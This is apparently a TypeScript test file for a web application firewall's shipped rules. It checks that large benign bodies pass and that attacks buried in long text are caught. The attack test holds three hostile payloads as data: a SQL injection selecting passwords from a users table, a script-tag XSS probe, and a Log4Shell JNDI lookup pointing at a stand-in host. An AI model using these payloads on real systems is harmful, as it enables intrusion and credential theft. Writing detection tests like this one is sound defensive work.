// What people do post: long prose, long base64, long source code. The shipped rules let all of it through.
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { inspect } from '../../../src/control/inspection.ts';
import { compilePolicyForTests } from '../../../src/control/rule-set.ts';
import { checkFiles } from '../../support/check-rules.ts';

const RULES = join(import.meta.dirname, '..', '..', '..', 'rules');
const { policy } = checkFiles(
  readdirSync(RULES)
    .filter((name) => name.endsWith('.ward'))
    .map((path) => ({ path, text: readFileSync(join(RULES, path), 'utf8') })),
);
if (policy === null) throw new Error('the shipped rules do not check');
const ruleSet = compilePolicyForTests(policy);

const PROSE = [
  'The committee met on Tuesday to select a new chair from the members of the credit union.',
  'Nobody had expected the vote to be close;  it took three rounds, and the script of the evening had to be rewritten.',
  'She said: "Drop me a line when you update the table of contents, or where you insert the order of the chapters."',
  'I like tea -- and coffee, too -- but 1 = 1 does not need an alert. The window was open, the document was not.\n\n',
  'He asked whether the report (see chapter 4/5) could be executed as planned, and having grouped the guests by table,',
  'we sat down to eat. Sleep came late. Is it true that cats & dogs get along? Some do; some <3 each other.\t\n',
];
const CODE = [
  'export function select<T>(from: readonly T[], where: (item: T) => boolean): T[] {',
  '  /* keeps the order of the union of both tables */',
  '  const out: T[] = []; // result',
  '  for (let i = 0; i < from.length; i++) if (where(from[i])) out.push(from[i]);',
  '  return out;',
  '}',
  '',
  '# a comment, then a shell-like line: run the build and then the tests',
  'class Table { insert(row: Row): void { this.rows.push(row); } }',
];

const SETTINGS = [
  '      containers:',
  '                  - name: select-entity-system',
  "                    description: 'The public system from which the table is read;  see <!-- entity --> and {{ x }}'",
  '                                        properties:',
  '                                                                                              type: string',
  '                                                                            script: \'echo "${table}" -- union\'',
];

/** The lines over and over, each with its number so that no two stretches are alike. */
function repeat(lines: readonly string[], bytes: number, between: string): string {
  let text = '';
  for (let i = 0; text.length < bytes; i++)
    text += `${lines[i % lines.length]}${between}${i % 9 === 0 ? i : ''}`;
  return text;
}

function base64(bytes: number): string {
  let state = 1;
  const raw = Uint8Array.from({ length: (bytes * 3) / 4 }, () => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    return state >>> 24;
  });
  return Buffer.from(raw).toString('base64');
}

const TEXTS: readonly [string, string][] = [
  ['200 KB of English', repeat(PROSE, 200_000, ' ')],
  ['200 KB of base64', base64(200_000)],
  ['300 KB of source code', repeat(CODE, 300_000, '\n')],
  ['300 KB of settings, most of it indentation', repeat(SETTINGS, 300_000, '\n')],
];

const SHAPES: readonly [string, (text: string) => { type: string; body: string }][] = [
  [
    'form',
    (text) => ({
      type: 'application/x-www-form-urlencoded',
      body: `title=a&text=${encodeURIComponent(text)}`,
    }),
  ],
  ['JSON', (text) => ({ type: 'application/json', body: JSON.stringify({ title: 'a', text }) })],
];

it.each(TEXTS.flatMap(([what, text]) => SHAPES.map(([as, shape]) => [what, as, shape(text)] as const)))(
  '%s as %s passes',
  async (_what, _as, { type, body }) => {
    const inspection = await inspect(ruleSet, {
      method: 'POST',
      target: '/articles',
      from: '198.51.100.7',
      scheme: 'http',
      headers: [
        ['content-type', type],
        ['user-agent', 'Mozilla/5.0'],
        ['accept', '*/*'],
      ],
      body,
      answered: undefined,
    });
    if (inspection.kind !== 'judged') throw new Error(inspection.reason);
    const { verdict, matches, uninspectable } = inspection.report;
    expect({ by: verdict.by, matches: matches.map(({ rule }) => rule), uninspectable }).toEqual({
      by: null,
      matches: [],
      uninspectable: undefined,
    });
  },
);

it.each([
  "' union select password from users -- ",
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
])('an attack in the middle of a long text is found: %s', async (attack) => {
  const prose = repeat(PROSE, 150_000, ' ');
  const inspection = await inspect(ruleSet, {
    method: 'POST',
    target: '/articles',
    from: '198.51.100.7',
    scheme: 'http',
    headers: [['content-type', 'application/json']],
    body: JSON.stringify({ text: `${prose}${attack}${prose}` }),
    answered: undefined,
  });
  if (inspection.kind !== 'judged') throw new Error(inspection.reason);
  expect(inspection.report.verdict.by).toBe('policy.threshold.request');
});
